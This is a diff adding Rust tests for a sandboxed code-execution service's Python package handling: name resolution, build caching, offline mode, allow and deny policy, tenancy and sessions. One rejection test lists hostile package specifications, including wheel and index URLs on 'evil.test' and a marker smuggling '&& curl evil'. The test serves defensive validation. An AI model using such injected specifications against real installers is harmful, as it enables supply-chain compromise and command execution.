@@ -1,0 +1,220 @@
+//! Packages that runs ask for, from the real index by the real installer: however they are named, and what policy refuses. Attack group PK.
+
+use super::sessions::{open, run};
+use super::tenancy::Tenancy;
+use fireclay_tests::{Data, Server};
+use model::{Outcome, RunResult};
+use serde_json::{Value, json};
+use std::net::ToSocketAddrs;
+use std::path::PathBuf;
+
+/// The index, which may be at an address of this network.
+fn index() -> String {
+    let addresses = ["pypi.org", "files.pythonhosted.org"].iter().flat_map(|host| {
+        (*host, 443)
+            .to_socket_addrs()
+            .unwrap_or_else(|error| panic!("{host}: {error}; these tests need the index"))
+    });
+    let mut ranges: Vec<String> = addresses
+        .filter(std::net::SocketAddr::is_ipv4)
+        .map(|address| format!("\"{}/32\"", address.ip()))
+        .collect();
+    ranges.sort();
+    ranges.dedup();
+    format!("egress.private=[{}]", ranges.join(","))
+}
+
+fn start(data: &Data, settings: &[&str]) -> Server {
+    let index = index();
+    let mut arguments = vec!["--set", index.as_str()];
+    arguments.extend(settings.iter().flat_map(|setting| ["--set", *setting]));
+    Server::start_in(data, &arguments)
+}
+
+fn completed(server: &Server, request: &Value) -> RunResult {
+    let result = server.run(request);
+    assert_eq!(result.outcome, Some(Outcome::Completed), "{result:?}");
+    result
+}
+
+fn rejected(server: &Server, request: &Value) -> Value {
+    let (status, problem) = server.post_json("/v1/runs", request);
+    assert_eq!(status, 422, "{problem}");
+    problem
+}
+
+/// The environments of a tenant.
+fn environments(data: &Data, tenant: &str) -> Vec<PathBuf> {
+    let directory = data.path().join("packages").join(tenant);
+    let entries = std::fs::read_dir(directory).into_iter().flatten().flatten().map(|entry| entry.path());
+    entries.filter(|path| path.join("manifest.json").exists()).collect()
+}
+
+const VERSION: &str = "from importlib.metadata import version; import six; print(version('six'), six.PY3)";
+
+#[test]
+fn however_packages_are_named_they_are_there_and_built_once() {
+    let data = Data::fresh();
+    let server = start(&data, &[]);
+    let said = json!({"language": "python", "code": VERSION, "packages": ["six==1.16.0"]});
+    let first = completed(&server, &said);
+    assert_eq!(first.stdout, "1.16.0 True\n");
+    let block = format!("# /// script\n# dependencies = [\"six==1.16.0\"]\n# ///\n{VERSION}");
+    let same = [
+        json!({"language": "python", "code": block}),
+        json!({"language": "python", "code": VERSION, "files": [{"path": "requirements.txt", "text": "# pinned\nsix == 1.16.0\n"}]}),
+        json!({"language": "python", "code": VERSION, "files": [{"path": "pyproject.toml", "text": "[project]\nname = \"x\"\nversion = \"1\"\ndependencies = [\"six==1.16.0\"]\n"}]}),
+        said.clone(),
+    ];
+    for request in &same {
+        let result = completed(&server, request);
+        assert_eq!(
+            (result.stdout.as_str(), &result.digests.image),
+            ("1.16.0 True\n", &first.digests.image),
+            "{request}"
+        );
+    }
+    assert_eq!(environments(&data, "local").len(), 1);
+    // By what is imported; by another name than the distribution's.
+    let found = json!({"language": "python", "code": "import yaml\nprint(yaml.safe_load('a: 1'))", "auto_packages": true});
+    assert_eq!(completed(&server, &found).stdout, "{'a': 1}\n");
+    let without = server.run(&json!({"language": "python", "code": "import yaml"}));
+    assert_eq!(without.error.map(|error| error.name).as_deref(), Some("ModuleNotFoundError"));
+    // Nothing of it may be written, and no network came with it.
+    let writes = json!({"language": "python", "packages": ["six==1.16.0"],
+        "code": "import six\ntry: open(six.__file__, 'a')\nexcept OSError as e: print(e.errno)\nimport os; print('http_proxy' in os.environ)"});
+    assert_eq!(completed(&server, &writes).stdout, "30\nFalse\n");
+    drop(server);
+    // What is there is found by the next service, which needs no index for it.
+    let offline = Server::start_in(&data, &["--set", "packages.offline=true"]);
+    assert_eq!(completed(&offline, &said).stdout, "1.16.0 True\n");
+    let problem =
+        rejected(&offline, &json!({"language": "python", "code": "1", "packages": ["six==1.15.0"]}));
+    assert!(problem["detail"].as_str().unwrap().contains("offline"), "{problem}");
+}
+
+#[test]
+fn who_asks_at_once_waits_for_one_build() {
+    let data = Data::fresh();
+    let server = start(&data, &[]);
+    let request = json!({"language": "python", "code": VERSION, "packages": ["six>=1.16"]});
+    std::thread::scope(|scope| {
+        let runs: Vec<_> = (0..8).map(|_| scope.spawn(|| completed(&server, &request))).collect();
+        let digests: Vec<String> = runs.into_iter().map(|run| run.join().unwrap().digests.image).collect();
+        assert!(digests.iter().all(|digest| *digest == digests[0]), "{digests:?}");
+    });
+    assert_eq!(environments(&data, "local").len(), 1);
+}
+
+#[test]
+fn what_cannot_be_had_is_told_in_the_resolvers_words() {
+    let server = start(&Data::fresh(), &[]);
+    let asked =
+        |package: &str| rejected(&server, &json!({"language": "python", "code": "1", "packages": [package]}));
+    for (package, words) in [
+        ("nosuchpkg-zz-0", "was not found in the package registry"),
+        ("six>99", "no version of six"),
+        // It has no wheel: to build it would be to run it.
+        ("docopt==0.6.2", "no usable wheels"),
+        ("git+https://github.com/x/y", "version control"),
+        ("six @ https://evil.test/six.whl", "URL"),
+        ("./here", "path"),
+        ("--index-url=https://evil.test six", "option"),
+        ("six; os_name == 'x' && curl evil", "marker"),
+    ] {
+        let problem = asked(package);
+        let detail = problem["detail"].as_str().unwrap();
+        assert!(detail.contains(words), "{package}: {problem}");
+        assert_eq!(problem["field"], "packages", "{problem}");
+    }
+    let python = rejected(
+        &server,
+        &json!({"language": "python", "code": "# /// script\n# requires-python = \"<3.5\"\n# ///\n1"}),
+    );
+    assert!(python["detail"].as_str().unwrap().contains("is here"), "{python}");
+    let other = rejected(&server, &json!({"language": "bash", "code": "1", "packages": ["six"]}));
+    assert!(other["detail"].as_str().unwrap().contains("bash"), "{other}");
+}
+
+#[test]
+fn policy_says_which_and_what_comes_with_them() {
+    let server =
+        start(&Data::fresh(), &["packages.allow=[\"python-dateutil\",\"six\"]", "packages.deny=[\"six\"]"]);
+    let asked =
+        |package: &str| rejected(&server, &json!({"language": "python", "code": "1", "packages": [package]}));
+    assert!(asked("requests")["detail"].as_str().unwrap().contains("packages.allow"));
+    assert!(asked("Six")["detail"].as_str().unwrap().contains("packages.deny"));
+    // It needs what is denied.
+    assert!(
+        asked("python-dateutil")["detail"].as_str().unwrap().contains("packages.deny"),
+        "{}",
+        asked("python-dateutil")
+    );
+    let open = start(&Data::fresh(), &["packages.allow=[\"python-dateutil\"]"]);
+    let code = "import dateutil, six; print('both')";
+    let request = json!({"language": "python", "code": code, "packages": ["python-dateutil"]});
+    assert_eq!(completed(&open, &request).stdout, "both\n");
+    // Releases that are younger than all are not seen.
+    let old = start(&Data::fresh(), &["packages.min_age_ms=\"400000h\""]);
+    let problem = rejected(&old, &json!({"language": "python", "code": "1", "packages": ["six"]}));
+    assert!(problem["detail"].as_str().unwrap().contains("six"), "{problem}");
+}
+
+#[test]
+fn tenants_have_their_own_and_sessions_have_them_too() {
+    let data = Data::fresh();
+    let index = index();
+    let tenancy = Tenancy::start_in(&data, &["--set", &index]);
+    for key in [&tenancy.a, &tenancy.b] {
+        let request = json!({"language": "python", "code": VERSION, "packages": ["six==1.16.0"]});
+        let (status, result) = tenancy.tell(key, "POST", "/v1/runs", &request);
+        assert_eq!((status, result["stdout"].as_str()), (200, Some("1.16.0 True\n")), "{result}");
+    }
+    let tenants = std::fs::read_dir(data.path().join("packages")).unwrap().flatten();
+    let tenants: Vec<String> = tenants.filter_map(|entry| entry.file_name().into_string().ok()).collect();
+    assert_eq!(tenants.len(), 2, "{tenants:?}");
+    assert!(tenants.iter().all(|tenant| environments(&data, tenant).len() == 1), "{tenants:?}");
+}
+
+#[test]
+fn a_session_has_what_it_was_opened_with() {
+    let server = start(&Data::fresh(), &[]);
+    let session = open(&server, &json!({"packages": ["six==1.16.0"]}));
+    assert_eq!(run(&server, &session, &json!({"code": VERSION}))["stdout"], "1.16.0 True\n");
+    assert_eq!(run(&server, &session, &json!({"code": VERSION, "fresh": true}))["stdout"], "1.16.0 True\n");
+    let (status, problem) =
+        server.post_json(&format!("{session}/runs"), &json!({"code": "1", "packages": ["six"]}));
+    assert_eq!((status, problem["field"].as_str()), (422, Some("packages")), "{problem}");
+}
+
+#[test]
+fn agentruns_route_installs_what_is_imported_and_says_its_words() {
+    let server = start(&Data::fresh(), &[]);
+    let output = |server: &Server, code: &str| {
+        server.post_json("/v1/run/", &json!({"code": code})).1["output"].clone()
+    };
+    assert_eq!(output(&server, "import six\nprint(six.PY3)"), "True\n");
+    assert_eq!(output(&server, "import nosuchpkg_zz"), "Failed to install dependency nosuchpkg_zz");
+    let none = start(&Data::fresh(), &["agentrun.whitelist=[]"]);
+    assert_eq!(output(&none, "import six"), "Dependency: six is not in the whitelist.");
+    assert_eq!(output(&none, "import json\nprint(json.dumps(1))"), "1\n");
+    // What its check refuses brings nothing.
+    assert_eq!(output(&server, "import six, os"), "Unsafe module import: os");
+}
+
+#[test]
+fn beside_a_template_its_own_packages_stay_as_they_are() {
+    let server = start(&Data::with_packages(), &[]);
+    let code = "import numpy, six, tabulate\nfrom importlib.metadata import version\nprint(version('numpy'), tabulate.tabulate([[1]]) != '')";
+    let plain = json!({"language": "python", "template": "python-data", "limits": {"timeout_ms": 50_000},
+        "code": "from importlib.metadata import version\nprint(version('numpy'))"});
+    let own = completed(&server, &plain).stdout.trim().to_owned();
+    let request = json!({"language": "python", "template": "python-data", "code": code, "packages": ["tabulate", "numpy"],
+        "limits": {"timeout_ms": 50_000}});
+    assert_eq!(completed(&server, &request).stdout, format!("{own} True\n"));
+    let against = rejected(
+        &server,
+        &json!({"language": "python", "template": "python-data", "code": "1", "packages": ["numpy<1"]}),
+    );
+    assert!(against["detail"].as_str().unwrap().contains("numpy"), "{against}");
+}
